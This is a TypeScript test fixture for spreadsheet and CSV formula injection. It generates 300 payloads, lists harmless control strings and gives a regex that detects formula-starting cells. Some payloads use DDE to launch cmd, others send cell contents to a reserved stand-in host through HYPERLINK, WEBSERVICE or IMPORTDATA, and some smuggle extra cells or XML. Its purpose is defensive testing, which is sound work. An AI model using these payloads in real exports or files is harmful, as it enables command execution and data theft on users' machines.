/** Ways in which a cell's text begins so that a spreadsheet computes it. */
const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  ' =',
  '\u00A0=',
  '\uFEFF=',
  '\u200B=',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
  '\uFF20',
  '\t',
  '\r',
  '\n',
  '\0',
] as const;
/** What it would compute, with quotes and separators that try to begin another cell. All addresses are reserved ones. */
const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://192.0.2.1/?x="&A1,"open")',
  'WEBSERVICE("http://192.0.2.1/")',
  'IMPORTXML("http://example.org/","//a")',
  'IMPORTDATA(CONCAT("http://example.org/?v=",A2:E2))',
  'DDE("cmd";"/C calc";"x")',
  "'file:///etc/hosts'#$a.A1",
  'RTD("a","","b")',
  'x",=1+1,"',
  'x;=1+1',
  'x\t=1+1',
  'x\r\n=1+1',
  '</t></is></c><c r="B2"><f>1+1</f></c>',
] as const;

/** 300 texts, each of which a careless export would let compute something. */
export const PAYLOADS: readonly string[] = BEGINNINGS.flatMap((begin) => BODIES.map((body) => begin + body));

/** Texts that are harmless, and must come out as they went in. */
export const HARMLESS: readonly string[] = [
  'ExampleChat',
  'room-9',
  'A & B <c> "d" \'e\'',
  'भारत, मुंबई',
  '_x0041_ stays as it is',
  'constructor',
  '__proto__',
  'toString',
  '1e5',
  '0012',
  'a,b;c',
  'two\nlines',
  '👩‍👧 family',
];

/** What makes a cell's text one that is computed: a formula sign, also behind white space or marks that nobody sees. */
export const COMPUTES = /^[\s\p{Cf}\p{Cc}\uFFFD]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
